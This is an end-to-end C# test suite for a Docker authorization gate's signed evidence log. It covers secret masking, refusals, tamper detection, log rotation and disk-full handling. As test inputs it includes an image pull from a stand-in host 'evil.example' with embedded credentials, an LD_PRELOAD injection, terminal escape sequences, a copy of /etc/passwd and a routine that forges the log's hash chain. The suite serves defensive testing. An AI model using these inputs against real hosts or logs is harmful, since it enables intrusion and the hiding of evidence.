using System.Net;
using System.Net.Sockets;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;
using Plimsoll.Keys;
using Plimsoll.TestKit;

namespace Plimsoll.EndToEnd;

/// <summary>A gated host whose log goes on in another file after a megabyte.</summary>
public sealed class LoggingHost : IDisposable
{
    public GatedHost Host { get; } = new("--look-every", "3600", "--log-file-mib", "1");

    public void Dispose() => Host.Dispose();
}

/// <summary>The agent's evidence log as a verifier sees it: what was decided, and what was done to the log since.</summary>
[Trait("needs", "host")]
public sealed class GateLogTests : IClassFixture<LoggingHost>, IDisposable
{
    private readonly TempFolder _folder = new();
    private readonly GatedHost _host;
    private readonly HttpClient _daemon;

    public GateLogTests(LoggingHost logging)
    {
        _host = logging.Host;
        _daemon = new HttpClient(new SocketsHttpHandler
        {
            ConnectCallback = async (_, stop) =>
            {
                Socket socket = new(AddressFamily.Unix, SocketType.Stream, ProtocolType.Unspecified);
                await socket.ConnectAsync(new UnixDomainSocketEndPoint(_host.Daemon.Socket), stop);
                return new NetworkStream(socket, ownsSocket: true);
            },
        })
        { BaseAddress = new Uri("http://docker/") };
    }

    public void Dispose()
    {
        _daemon.Dispose();
        _folder.Dispose();
    }

    private string Folder => Path.Combine(_host.State, "log");

    private string Newest => Directory.GetFiles(Folder, "evidence-*.jsonl").Order(StringComparer.Ordinal).Last();

    private Outcome Verify(string folder, params string[] more) => new Call(_folder["home"], ["log", "verify", folder, "--key", Path.Combine(_host.State, "log.pub"), "--json", .. more]).Run();

    private JsonNode Good(params string[] more)
    {
        JsonNode verdict = Verify(Folder, more).Expect(0).Document;
        Assert.True((bool)verdict["good"]!);
        return verdict;
    }

    private void Runs(SavedImage image) => Assert.Equal("it runs\n", _host.Start(image).Expect(0).Out);

    private void RunsSoon(SavedImage image)
    {
        _host.AwaitAnswer();
        Runs(image);
    }

    [Fact]
    public void Log_DecisionsOfBothGates_AreLinesWithNamesEscapedAndSecretsMasked()
    {
        SavedImage image = _host.Signed("log"), unsigned = _host.Image("log-unsigned");
        _host.Daemon.Load(unsigned.Build());
        Outcome named = _host.Docker(["create", "--name", "log-named", "-e", "DB_PASSWORD=hunter2", "-e", "NOTE=a\nb\u001b[2J", .. GatedHost.Limits, image.Tag]);
        named.Expect(0);
        _host.Docker("start", "-a", "log-named").Expect(0);
        Assert.NotEqual(0, _host.Start(unsigned).Code);
        Assert.NotEqual(0, _host.Start(image, "-e", "LD_PRELOAD=/srv/token=hunter2").Code);
        File.AppendAllText(_host.Unpacked(image, 1, "srv/page"), "x");
        Assert.NotEqual(0, _host.Docker("start", "-a", "log-named").Code);
        _host.Docker("rm", "log-named").Expect(0);
        Post("/v1.41/images/create?fromSrc=https%3A%2F%2Fme%3Ahunter2%40evil.example%2Fx&message=a%0Ab%1B%5B2J");
        Post("/v1.41/build?buildargs=%7B%22NPM_TOKEN%22%3A%22hunter2%22%7D");

        string id = GatedHost.Field(_host.AwaitLine("the start", l => (string)l["kind"]! == "start-allowed" && GatedHost.Field(l, "image") == image.Id.ToString()), "container");
        JsonNode[] requests = [.. _host.Log("request-allowed", "request-refused")];
        JsonNode Line(string kind, string endpoint, string reason) => Assert.Single(_host.Log(kind), l => GatedHost.Field(l, "endpoint") == endpoint && GatedHost.Field(l, "reason").Contains(reason, StringComparison.Ordinal));
        Assert.Contains(requests, l => (string)l["kind"]! == "request-allowed" && GatedHost.Field(l, "endpoint") == "POST /containers/create" && GatedHost.Field(l, "uri").Contains("name=log-named", StringComparison.Ordinal));
        Assert.Contains(requests, l => (string)l["kind"]! == "request-allowed" && GatedHost.Field(l, "endpoint") == "POST /containers/{name}/start" && (GatedHost.Field(l, "subject") == id || GatedHost.Field(l, "subject") == "log-named"));
        Assert.Contains(requests, l => (string)l["kind"]! == "request-allowed" && GatedHost.Field(l, "endpoint") == "DELETE /containers/{name}");
        Line("request-refused", "POST /containers/create", "unsigned");
        Line("request-refused", "POST /containers/create", "LD_PRELOAD");
        JsonNode import = Line("request-refused", "POST /images/create", ""), build = Line("request-refused", "POST /build", "");
        Assert.Contains("https://me:***@evil.example", GatedHost.Field(import, "uri"), StringComparison.Ordinal);
        Assert.Contains(@"message=a\x0ab\x1b[2J", GatedHost.Field(import, "uri"), StringComparison.Ordinal);
        Assert.Contains("\"NPM_TOKEN\":\"***\"", GatedHost.Field(build, "uri"), StringComparison.Ordinal);
        JsonNode refused = Assert.Single(_host.Log("start-refused"), l => GatedHost.Field(l, "container") == id);
        Assert.Equal((id, image.Id.ToString()), (GatedHost.Field(refused, "container"), GatedHost.Field(refused, "image")));
        Assert.Contains("not-intact: layer 2: /srv/hard (changed); layer 2: /srv/page (changed)", GatedHost.Field(refused, "reason"), StringComparison.Ordinal);
        foreach (string file in Directory.GetFiles(Folder, "*.jsonl"))
            using (FileStream shared = new(file, FileMode.Open, FileAccess.Read, FileShare.ReadWrite | FileShare.Delete))
            using (StreamReader reader = new(shared))
                Assert.DoesNotContain("hunter2", reader.ReadToEnd(), StringComparison.Ordinal);
        Good();
    }

    [Fact]
    public void Log_PolicyThatLearns_SaysAtBothGatesWhatItWouldRefuse()
    {
        SavedImage image = _host.Signed("log-learning");
        _host.Policy(GatedHost.Open.Replace("start: default", "start: {learning: {until: 2099-12-31}}", StringComparison.Ordinal));
        string unlimited = _host.Docker("create", "--network", "none", image.Tag).Expect(0).Out.Trim(), twin = _host.Docker(["create", .. GatedHost.Limits, image.Tag]).Expect(0).Out.Trim();
        foreach (string container in (string[])[unlimited, twin])
            Assert.Equal("it runs\n", _host.Docker("start", "-a", container).Expect(0).Out);

        foreach ((string kind, string field, string endpoint) in (ReadOnlySpan<(string, string, string)>)[("start-allowed", "container", ""), ("request-allowed", "subject", "POST /containers/{name}/start")])
        {
            JsonNode Line(string container) => Assert.Single(_host.Log(kind), l => GatedHost.Field(l, field) == container && GatedHost.Field(l, "endpoint") == endpoint);
            string[] warnings = [.. Line(unlimited)["fields"]!["warnings"]!.AsArray().Select(w => (string)w!)];
            Assert.Contains(warnings, w => w.StartsWith("resources/no-memory-limit: ", StringComparison.Ordinal));
            Assert.Contains(warnings, w => w.StartsWith("rule/learning: ", StringComparison.Ordinal));
            Assert.Null(Line(twin)["fields"]!["warnings"]);
        }
        // The same without learning.
        _host.Policy(GatedHost.Open);
        Assert.Contains("resources/no-memory-limit", _host.Docker("start", "-a", unlimited).Error, StringComparison.Ordinal);
        _host.Docker("rm", "-f", unlimited, twin).Expect(0);
    }

    [Fact]
    public void Log_WhatPolicyMustAllow_IsALineThoughItIsAGet()
    {
        SavedImage image = _host.Signed("log-export");
        _host.Policy(GatedHost.Open.Replace("start: default", "start: {engine: {allow: [read, manage, attach, export, copy-out]}}", StringComparison.Ordinal));
        string container = _host.Docker(["create", .. GatedHost.Limits, image.Tag]).Expect(0).Out.Trim();
        try
        {
            _host.Docker("export", "-o", _folder["export.tar"], container).Expect(0);
            _host.Docker("save", "-o", _folder["save.tar"], image.Tag).Expect(0);
            _host.Docker("cp", $"{container}:/etc/passwd", _folder["passwd"]).Expect(0);
            _host.Docker("inspect", container).Expect(0);
        }
        finally
        {
            _host.Policy(GatedHost.Open);
        }

        string[] endpoints = [.. _host.Log("request-allowed").Where(l => GatedHost.Field(l, "subject") is var subject && (subject == container || GatedHost.Field(l, "endpoint").StartsWith("GET /images", StringComparison.Ordinal))).Select(l => GatedHost.Field(l, "endpoint")).Order(StringComparer.Ordinal)];
        Assert.Equal(["GET /containers/{name}/archive", "GET /containers/{name}/export", "GET /images/get"], endpoints);
        _host.Docker("rm", "-f", container).Expect(0);
    }

    /// <summary>Asks for what is refused, one way or the other.</summary>
    private void Post(string path) => Assert.Equal(HttpStatusCode.Forbidden, Send(path));

    private HttpStatusCode Send(string path)
    {
        using HttpRequestMessage request = new(HttpMethod.Post, path);
        using HttpResponseMessage answer = _daemon.Send(request);
        return answer.StatusCode;
    }

    [Fact]
    public void Log_ChangedRemovedReorderedOrCut_IsFoundAgainstTheExportedCheckpoint()
    {
        SavedImage image = _host.Signed("log-attacked");
        for (int i = 0; i < 3; i++)
            Runs(image);
        // The agent signs when it ends; what is exported then, another machine keeps.
        _host.StopAgent();
        string checkpoint = _folder["checkpoint.json"];
        new Call(_folder["home"], "log", "export", Folder, "--key", Path.Combine(_host.State, "log.pub"), "--output", checkpoint).Run().Expect(0);
        Good("--checkpoint", checkpoint);
        string[] lines = File.ReadAllText(Newest).TrimEnd('\n').Split('\n');
        int start = Array.FindIndex(lines, l => l.Contains("start-allowed", StringComparison.Ordinal));

        Found("line-changed", l => l[start] = l[start].Replace("start-allowed", "start-refused", StringComparison.Ordinal));
        Found("line-missing", l => l.RemoveAt(start));
        Found("line-out-of-order", l => (l[start], l[start + 1]) = (l[start + 1], l[start]));
        Found("cut-off", l => l.RemoveRange(start, l.Count - start));
        Found("signature-wrong", Rewrite);
        Found("wrong-key", _ => { }, with: Stranger());
        Found("", _ => { });
        _host.StartAgent();
        RunsSoon(image);

        void Found(string kind, Action<List<string>> attack, string? with = null)
        {
            string copy = Directory.CreateDirectory(_folder[$"copy-{kind}"]).FullName;
            foreach (string file in Directory.GetFiles(Folder, "*.jsonl"))
                File.Copy(file, Path.Combine(copy, Path.GetFileName(file)));
            List<string> changed = [.. lines];
            attack(changed);
            File.WriteAllText(Path.Combine(copy, Path.GetFileName(Newest)), string.Join('\n', changed) + "\n");
            Outcome outcome = new Call(_folder["home"], "log", "verify", copy, "--key", with ?? Path.Combine(_host.State, "log.pub"), "--checkpoint", checkpoint, "--json").Run().Expect(kind.Length > 0 ? 1 : 0);
            if (kind.Length > 0)
                Assert.Contains(kind, outcome.Document["findings"]!.AsArray().Select(f => (string)f!["kind"]!));
        }

        // As somebody does who knows how lines are chained and has no key.
        void Rewrite(List<string> l)
        {
            const int digest = 64;
            l[start] = l[start].Replace("start-allowed", "start-refused", StringComparison.Ordinal);
            for (int i = start + 1; i < l.Count; i++)
                l[i] = $"{l[i][..^(digest + 2)]}{Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(l[i - 1])))}\"}}";
        }

        string Stranger()
        {
            using ISigner stranger = KeyFile.Generate(KeyAlgorithm.Ed25519);
            return _folder.Write("stranger.pub", Encoding.UTF8.GetBytes(stranger.PublicKey.ToPem()));
        }
    }

    [Fact]
    public void Log_RotatedWhileContainersStartAndTheAgentKilled_LosesNothingAndNotesATornLine()
    {
        SavedImage image = _host.Signed("log-load");
        int starts = 0;
        // Long requests fill files of a megabyte, and allowed ones, since refusals are counted beyond some a minute; the starts between them are what must not get lost.
        string padding = new('x', 1900);
        using CancellationTokenSource done = new();
        Thread filler = new(() =>
        {
            while (!done.IsCancellationRequested)
                Send($"/v1.41/containers/nothing/wait?padding={padding}");
        });
        filler.Start();
        for (int round = 0; round < 200 && (round < 3 || Directory.GetFiles(Folder, "evidence-*.jsonl").Length < 3); round++)
            Parallel.For(0, 3, _ =>
            {
                Runs(image);
                Interlocked.Increment(ref starts);
            });
        // In the middle of writing.
        _host.StopAgent("KILL");
        done.Cancel();
        filler.Join();
        Assert.Equal(starts, _host.Log("start-allowed").Count(l => GatedHost.Field(l, "image") == image.Id.ToString()));

        // As a host that lost power leaves it.
        string torn = Newest;
        File.AppendAllText(torn, "{\"sequence\":");
        _host.StartAgent();
        RunsSoon(image);
        JsonNode note = Assert.Single(_host.Log("torn-line"));
        Assert.Equal((Path.GetFileName(torn), 12), (GatedHost.Field(note, "file"), Math.Min(12, (int)note["fields"]!["bytes"]!)));
        Assert.True(Directory.GetFiles(Folder, "evidence-*.jsonl").Length >= 3);
        _host.StopAgent();
        JsonNode verdict = Good();
        Assert.Equal(_host.Log().Count, (int)verdict["lines"]!);
        Assert.Contains("torn-line", verdict["findings"]!.AsArray().Select(f => (string)f!["kind"]!));
        _host.StartAgent();
        RunsSoon(image);
    }

    [Fact]
    public void Log_DiskFull_StartsAreRefusedUntilThereIsRoom()
    {
        SavedImage image = _host.Signed("log-full"), serving = _host.Signed("log-full-serving", GatedHost.Serves);
        _host.StopAgent();
        Directory.Delete(Folder, recursive: true);
        File.Delete(Path.Combine(_host.State, "log.key"));
        Directory.CreateDirectory(Folder);
        Tool.Run("mount", ["-t", "tmpfs", "-o", "size=64k,mode=700", "tmpfs", Folder]);
        try
        {
            _host.StartAgent();
            RunsSoon(image);
            // The plugin is not asked about what docker starts again by itself.
            string container = _host.Serve(serving, "--restart", "always"), note = Path.Combine(_host.Daemon.DataRoot, "containers", container, "config.v2.json");
            string ballast = Path.Combine(Folder, "ballast");
            using (FileStream fill = File.Create(ballast))
                Assert.Throws<IOException>(() => fill.Write(new byte[128 * 1024]));
            // What is left of the last page takes a few lines more.
            GatedHost.Await(() => _host.Docker("rm", "nothing").Error.Contains("no-evidence", StringComparison.Ordinal), "the full disk");
            Outcome refused = _host.Start(image);
            Assert.NotEqual(0, refused.Code);
            Assert.Contains("no-evidence", refused.Error, StringComparison.Ordinal);
            // What only reads goes on.
            _host.Docker("ps").Expect(0);
            Tool.Run("kill", ["-KILL", _host.Inspect(container, "{{.State.Pid}}")]);
            GatedHost.Await(() => File.ReadAllText(note).Contains("plimsoll: log-failed: ", StringComparison.Ordinal), () => File.ReadAllText(note));

            File.Delete(ballast);
            Runs(image);
            _host.Docker("rm", "-f", container).Expect(0);
            Good();
        }
        finally
        {
            _host.StopAgent();
            Tool.Run("umount", [Folder]);
        }
        Directory.Delete(Folder, recursive: true);
        File.Delete(Path.Combine(_host.State, "log.key"));
        _host.StartAgent();
        RunsSoon(image);
    }
}
